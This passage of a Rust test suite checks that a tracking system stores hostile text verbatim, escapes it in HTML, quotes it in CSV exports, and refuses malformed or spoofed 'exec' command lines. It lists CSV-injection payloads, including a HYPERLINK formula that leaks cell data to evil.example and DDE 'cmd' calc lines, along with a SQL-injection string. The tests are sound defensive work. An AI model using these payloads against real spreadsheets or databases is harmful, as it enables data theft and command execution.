        "\u{202e}txt.exe",
        "line\nbreak\r\nand\ttab",
        "emoji 🏛️ and 𠀀 (beyond the BMP)",
        "\\u0000 written out, and a backslash \\",
        "zero\u{200b}width\u{feff}marks",
        "a NUL\u{0} in the middle, and other controls \u{1b}[31m\u{7}",
    ]
    .into_iter()
    .chain(formula_texts())
    .collect()
}

/// Texts a spreadsheet would run as a formula if a CSV cell started with them (OWASP's "CSV
/// Injection" list: `=`, `+`, `-`, `@`, a tab, a carriage return).
pub fn formula_texts() -> Vec<&'static str> {
    vec![
        "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"详情\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1 after a tab",
        "\r=1+1 after a carriage return",
    ]
}

async fn strings_that_look_like_sql_html_or_paths_read_back_verbatim_and_escaped_on_pages(
    db: Fresh,
) {
    let api = Api::new(&db).await;
    let cast = Cast::of(&api).await;
    let texts = interpreted_texts();
    for (n, text) in texts.iter().enumerate() {
        let item = format!("2024-V-{n:03}");
        let body = command(
            &format!("v-{n}"),
            "FileItem",
            "2024-03-01T09:00:00+08:00",
            json!({"item_id": item, "kind": "suggestion", "title": text, "body": text,
                   "deputies": [{"id": "d-1", "name": text, "lead": true}]}),
        );
        api.command(&cast.liaison, &body)
            .await
            .expect(StatusCode::OK, None);
    }
    // Ids may hold `/` and `.`: one that looks like a path is an id like any other.
    let path_like = "../2024-V/./x";
    api.command(&cast.liaison, &file(path_like, "d-1"))
        .await
        .expect(StatusCode::OK, None);
    let encoded = path_like.replace('/', "%2F");
    let read = api
        .get(&format!("/api/items/{encoded}/trail"), Some(&cast.auditor))
        .await;
    read.expect(StatusCode::OK, None);
    assert_eq!(read.body["item_id"], path_like);
    assert_eq!(
        read.body["events"][0]["stream"],
        format!("item/{path_like}")
    );
    // Every text comes back exactly: in the item, its trail, the board, and the CLI's board.
    let board = api.get("/api/board", Some(&cast.auditor)).await;
    board.expect(StatusCode::OK, None);
    let cli = crate::support::huiyin(&db, &["board", "--format", "json"], "");
    assert_eq!(
        cli.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&cli.stderr)
    );
    let cli: Value = serde_json::from_slice(&cli.stdout).expect("board JSON");
    for (n, text) in texts.iter().enumerate() {
        let item = format!("2024-V-{n:03}");
        let view = api
            .get(&format!("/api/items/{item}"), Some(&cast.auditor))
            .await;
        view.expect(StatusCode::OK, None);
        assert_eq!(view.body["item"]["title"], *text);
        let data = &view.body["trail"]["events"][0]["data"];
        assert_eq!(data["title"], *text);
        assert_eq!(data["body"], *text);
        assert_eq!(data["deputies"][0]["name"], *text);
        for listed in [&board.body, &cli] {
            let row = listed["items"]
                .as_array()
                .expect("items")
                .iter()
                .find(|row| row["item_id"] == item.as_str())
                .expect("listed");
            assert_eq!(row["title"], *text);
        }
    }
    // Every page escapes it: the board and each item's page hold the HTML-escaped text, and none
    // of the texts that carry markup appears raw.
    let session = crate::web::log_in(&api, "liaison-web", Role::Liaison).await;
    let board_page = crate::web::get(&api, "/", Some(&session))
        .await
        .expect_html(StatusCode::OK);
    for (n, text) in texts.iter().enumerate() {
        let item_page = crate::web::get(&api, &format!("/items/2024-V-{n:03}"), Some(&session))
            .await
            .expect_html(StatusCode::OK);
        for (page, html) in [("board", &board_page), ("item", &item_page)] {
            assert!(
                html.contains(&html_escaped(text)),
                "{page} page lacks {text:?}"
            );
            if text.contains(['<', '>', '"']) {
                assert!(!html.contains(*text), "{page} page shows {text:?} raw");
            }
        }
    }
    // The log verifies with all of it in.
    let verify = crate::support::huiyin(&db, &["verify"], "");
    assert_eq!(
        verify.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&verify.stdout)
    );
    tried("verbatim_strings", &db, texts.len() + 1);
}

/// Files an item for each formula-like text (in its title, body and deputy's name), triages it
/// and assigns it to a leader and a lead unit named by the text; then reads the board and the
/// figures as CSV (pages and `huiyin board|stats --format csv`) and as workbooks.
async fn formula_like_texts_get_a_quote_in_csv_downloads_and_stay_strings_in_workbooks(db: Fresh) {
    let api = Api::new(&db).await;
    let cast = Cast::of(&api).await;
    let texts = formula_texts();
    for (n, text) in texts.iter().enumerate() {
        let item = format!("2024-F-{n:03}");
        let steps = [
            (
                &cast.liaison,
                command(
                    &format!("f-{n}"),
                    "FileItem",
                    "2024-03-01T09:00:00+08:00",
                    json!({"item_id": item, "kind": "suggestion", "title": text, "body": text,
                           "deputies": [{"id": "d-1", "name": text, "lead": true}]}),
                ),
            ),
            (
                &cast.office,
                command(
                    &format!("f-{n}-triage"),
                    "TriageItem",
                    "2024-03-04T09:00:00+08:00",
                    json!({"item_id": item, "decision": "accept"}),
                ),
            ),
            (
                &cast.office,
                command(
                    &format!("f-{n}-assign"),
                    "AssignItem",
                    "2024-03-05T09:00:00+08:00",
                    json!({"item_id": item, "lead_unit": text,
                           "leader": {"id": format!("l-f{n}"), "name": text, "level": "vice_president"}}),
                ),
            ),
        ];
        for (token, step) in steps {
            api.command(token, &step).await.expect(StatusCode::OK, None);
        }
    }
    let before = log_state(&*api.stores.events).await;
    // The ledger and JSON keep every text verbatim.
    let board = api.get("/api/board", Some(&cast.auditor)).await;
    board.expect(StatusCode::OK, None);
    for (n, text) in texts.iter().enumerate() {
        let row = board.body["items"]
            .as_array()
            .expect("items")
            .iter()
            .find(|row| row["item_id"] == format!("2024-F-{n:03}").as_str())
            .expect("listed");
        assert_eq!(row["title"], *text);
        assert_eq!(row["leader"], *text);
        assert_eq!(row["lead_unit"], *text);
    }
    // Every CSV: the board's and the figures', downloaded and printed.
    let session = crate::web::log_in(&api, "office-web", Role::CourtOffice).await;
    let mut boards = Vec::new();
    let mut inputs = 0;
    for path in ["/board.csv", "/figures.csv"] {
        let page = crate::web::get(&api, path, Some(&session)).await;
        page.expect(StatusCode::OK);
        let table = csv_table(&page.html());
        if path == "/board.csv" {
            boards.push((path.to_owned(), table.clone()));
        }
        assert_no_formula_cells(path, &table);
        inputs += 1;
    }
    for command in ["board", "stats"] {
        let printed = crate::support::huiyin(&db, &[command, "--format", "csv"], "");
        assert_eq!(
            printed.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&printed.stderr)
        );
        let what = format!("huiyin {command} --format csv");
        let table = csv_table(&String::from_utf8(printed.stdout).expect("UTF-8 CSV"));
        assert_no_formula_cells(&what, &table);
        if command == "board" {
            boards.push((what, table));
        }
        inputs += 1;
    }
    // The board's text cells are the text with one quote before it, nothing else changed.
    for (what, table) in &boards {
        let header = &table[0];
        let column = |name: &str| {
            header
                .iter()
                .position(|cell| cell == name)
                .unwrap_or_else(|| panic!("{what}: no column {name}"))
        };
        for (n, text) in texts.iter().enumerate() {
            let row = table
                .iter()
                .find(|row| row[0] == format!("2024-F-{n:03}"))
                .unwrap_or_else(|| panic!("{what}: no row for {text:?}"));
            for name in ["title", "leader", "lead_unit", "deputies"] {
                assert_eq!(row[column(name)], format!("'{text}"), "{what} {name}");
            }
        }
    }
    // The workbooks hold strings, never formulas: the board's cells are the texts verbatim.
    for path in ["/board.xlsx", "/figures.xlsx"] {
        let page = crate::web::get(&api, path, Some(&session)).await;
        page.expect(StatusCode::OK);
        let sheets = xlsx_sheets(path, &page.body);
        if path == "/board.xlsx" {
            let (_, cells) = &sheets[0];
            for (n, text) in texts.iter().enumerate() {
                let row = cells
                    .iter()
                    .find(|row| row[0] == calamine::Data::String(format!("2024-F-{n:03}")))
                    .unwrap_or_else(|| panic!("{path}: no row for {text:?}"));
                assert_eq!(
                    row[BOARD_TITLE_COLUMN],
                    calamine::Data::String((*text).to_owned())
                );
            }
        }
        inputs += 1;
    }
    assert_eq!(log_state(&*api.stores.events).await, before);
    tried("formula_texts_in_tables", &db, inputs * texts.len());
}

/// Where the board's title is, in `huiyin::tables::BOARD_HEADER`.
const BOARD_TITLE_COLUMN: usize = 12;

/// CSV text (a byte order mark first or not) as rows of cells, the header row first.
fn csv_table(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    reader
        .records()
        .map(|record| {
            record
                .expect("a CSV record")
                .iter()
                .map(str::to_owned)
                .collect()
        })
        .collect()
}

/// No cell of `table` starts as a formula would, unless it is a plain number (`-3` days left).
fn assert_no_formula_cells(what: &str, table: &[Vec<String>]) {
    assert!(table.len() > 1, "{what}: rows");
    for row in table {
        for cell in row {
            let number = cell.parse::<f64>().is_ok() && !cell.contains(['e', 'E', 'n', 'N', 'i']);
            assert!(
                number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{what}: a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
}

/// Every sheet of a workbook with its cells; fails when any sheet holds a formula.
fn xlsx_sheets(what: &str, bytes: &[u8]) -> Vec<(String, Vec<Vec<calamine::Data>>)> {
    use calamine::Reader;
    let cursor = std::io::Cursor::new(bytes.to_vec());
    let mut workbook = calamine::open_workbook_auto_from_rs(cursor).expect("an XLSX workbook");
    let mut sheets = Vec::new();
    for name in workbook.sheet_names() {
        let formulas = workbook.worksheet_formula(&name).expect("formulas");
        assert!(
            formulas
                .used_cells()
                .all(|(_, _, formula)| formula.is_empty()),
            "{what} sheet {name} holds a formula"
        );
        let cells = workbook.worksheet_range(&name).expect("cells");
        sheets.push((name, cells.rows().map(<[calamine::Data]>::to_vec).collect()));
    }
    sheets
}

/// Text as HTML shows it: `&`, `<`, `>` and `"` escaped (what maud does).
fn html_escaped(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

// ---------------------------------------------------------------------------------------------
// `huiyin exec`.

/// Runs `huiyin exec --actor liaison-01 --role liaison -` with `stdin` as raw bytes.
fn exec_bytes(db: &Fresh, stdin: &[u8]) -> std::process::Output {
    use std::io::Write;
    use std::process::{Command, Stdio};
    let mut child = Command::new(env!("CARGO_BIN_EXE_huiyin"))
        .args([
            "--db",
            &db.url,
            "exec",
            "--actor",
            "liaison-01",
            "--role",
            "liaison",
            "-",
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start huiyin");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(stdin)
        .expect("write stdin");
    child.wait_with_output().expect("huiyin runs")
}

/// Hostile lines for `exec`, each with the code it must get.
fn exec_lines() -> Vec<(Vec<u8>, &'static str)> {
    let good = filing_with("title", "\"标题\"");
    let as_actor = |actor: &str| good.replacen('{', actor, 1);
    let texts: Vec<(String, &'static str)> = vec![
        ("{".into(), "invalid"),
        ("{'type':'FileItem'}".into(), "invalid"),
        ("[]".into(), "invalid"),
        ("null".into(), "invalid"),
        ("42".into(), "invalid"),
        (
            r#"{"type":"FileItem","data":{"item_id":NaN}}"#.into(),
            "invalid",
        ),
        (
            r#"{"type":"FileItem","data":{"n":1e400}}"#.into(),
            "invalid",
        ),
        (
            r#"{"type":"FileItem","data":{},"sudo":true}"#.into(),
            "invalid",
        ),
        (
            r#"{"type":"FileItem","data":{"item_id":"\ud800"}}"#.into(),
            "invalid",
        ),
        (nested_arrays(129), "invalid"),
        (nested_arrays(100_000), "invalid"),
        (
            format!(
                r#"{{"type":"FileItem","data":{{"title":{}}}}}"#,
                nested_arrays(50_000)
            ),
            "invalid",
        ),
        (
            filing_with("item_id", "123456789012345678901234567890"),
            "invalid",
        ),
        (filing_with("title", "12"), "invalid"),
        (filing_with("title", "\"   \""), "invalid"),
        (filing_with("title", "\"\u{3000}\""), "invalid"),
        (
            filing_with("body", &json!("文".repeat(1_000_000)).to_string()),
            "invalid",
        ),
        (filing_with("item_id", "\"1' OR '1'='1\""), "invalid"),
        (filing_with("priority", "\"high\""), "invalid"),
        (good.replace("\"h-900\"", "\"a b\""), "invalid"),
        (
            good.replace("2024-03-01T09:00:00+08:00", "yesterday"),
            "invalid",
        ),
        // The line names its actor and role, which win over the flags: a deputy may not file,
        // an auditor changes nothing, a role that is no role, an actor that is no id.
        (as_actor(r#"{"actor":"d-1","role":"deputy","#), "forbidden"),
        (
            as_actor(r#"{"actor":"audit-01","role":"auditor","#),
            "forbidden",
        ),
        (as_actor(r#"{"actor":"x","role":"king","#), "invalid"),
        (as_actor(r#"{"actor":"a b","role":"liaison","#), "invalid"),
        (
            r#"{"type":"ShredItem","data":{}}"#.into(),
            "unknown_command",
        ),
        (r#"{"type":"","data":{}}"#.into(), "unknown_command"),
        (SEED.replace("2024-X-1", "2024-X-2"), "duplicate"),
        (
            r#"{"actor":"office-01","role":"court_office","type":"TriageItem","data":{"item_id":"2024-X-404","decision":"accept"}}"#.into(),
            "not_found",
        ),
        (
            r#"{"actor":"l-1","role":"leader","type":"CloseItem","data":{"item_id":"2024-X-1"}}"#.into(),
            "wrong_state",
        ),
    ];
    let mut lines: Vec<(Vec<u8>, &'static str)> = texts
        .into_iter()
        .map(|(text, code)| (text.into_bytes(), code))
        .collect();
    for bytes in [
        &b"{\"type\":\"FileItem\",\"data\":{\"item_id\":\"\xff\xfe\"}}"[..],
        b"\xc0\xaf\xed\xa0\x80",
        b"{\"type\":\"FileItem\",\"data\":{\"title\":\"\xe5\x9b\"}}",
    ] {
        lines.push((bytes.to_vec(), "invalid"));
    }
    lines
}

/// The filing `exec` is seeded with.
const SEED: &str = r#"{"command_id":"seed","type":"FileItem","at":"2024-03-01T09:00:00+08:00","data":{"item_id":"2024-X-1","kind":"suggestion","title":"t","body":"","deputies":[{"id":"d-1","name":"n"}]}}"#;

async fn hostile_exec_lines_are_each_refused_and_append_nothing(db: Fresh) {
    let seeded = exec_bytes(&db, SEED.as_bytes());
    assert_eq!(
        seeded.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&seeded.stderr)
    );
    let before = log_state(&*db.store).await;
    let lines = exec_lines();
    // All lines in one run, and each line alone: the answers are the same.
    let mut input = Vec::new();
    for (bytes, _) in &lines {
        input.extend_from_slice(bytes);
        input.push(b'\n');
    }
    let together = exec_bytes(&db, &input);
    let stdout = String::from_utf8(together.stdout).expect("UTF-8 output");
    let answers: Vec<Value> = stdout
        .lines()
        .map(|line| serde_json::from_str(line).expect("a JSON line"))
        .collect();
    assert_eq!(
        together.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&together.stderr)
    );
    assert_eq!(answers.len(), lines.len(), "{stdout}");
    for (n, ((bytes, code), answer)) in lines.iter().zip(&answers).enumerate() {
        let shown = String::from_utf8_lossy(&bytes[..bytes.len().min(120)]);
        assert_eq!(answer["ok"], false, "line {n} {shown}: {answer}");
        assert_eq!(answer["error"]["code"], *code, "line {n} {shown}: {answer}");
        assert!(answer["error"]["message"]
            .as_str()
            .is_some_and(|m| !m.is_empty()));
    }
    for (bytes, code) in lines.iter().filter(|(bytes, _)| bytes.len() < 1_000) {
        let alone = exec_bytes(&db, bytes);
        assert_eq!(alone.status.code(), Some(1));
        let answer: Value = serde_json::from_slice(&alone.stdout).expect("one JSON line");
        assert_eq!(
            answer["error"]["code"],
            *code,
            "{}",
            String::from_utf8_lossy(bytes)
        );
    }
    assert_eq!(log_state(&*db.store).await, before);
    tried("exec_lines", &db, lines.len());
}
